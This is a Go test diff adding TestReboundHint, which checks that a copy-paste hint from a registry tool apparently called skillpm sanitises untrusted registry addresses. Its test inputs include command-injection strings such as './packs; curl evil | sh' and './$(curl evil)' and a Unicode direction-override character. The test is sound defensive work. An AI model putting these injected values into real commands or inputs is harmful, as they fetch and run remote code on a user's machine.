@@ -115,6 +115,21 @@ func TestFind(t *testing.T) {
 	}
 }
 
+// TestReboundHint checks that the command in the hint is safe to copy, whatever the project's file has.
+func TestReboundHint(t *testing.T) {
+	for address, want := range map[string]string{
+		"oci://r.example:5000/acme": "skillpm registry bind acme oci://r.example:5000/acme --accept",
+		"./packs; curl evil | sh":   "skillpm registry bind acme REGISTRY --accept",
+		"./$(curl evil)":            "skillpm registry bind acme REGISTRY --accept",
+		"./packs\u202e":             "skillpm registry bind acme REGISTRY --accept",
+	} {
+		hint := (&registry.ReboundError{Owner: "acme", Project: address, User: "one"}).Hint()
+		if !strings.HasSuffix(hint, want) {
+			t.Errorf("%q: hint %q, want %q", address, hint, want)
+		}
+	}
+}
+
 // TestFindRequired checks that the built-in registries never answer for what a pack from elsewhere requires, except for
 // packs of skillpm.
 func TestFindRequired(t *testing.T) {
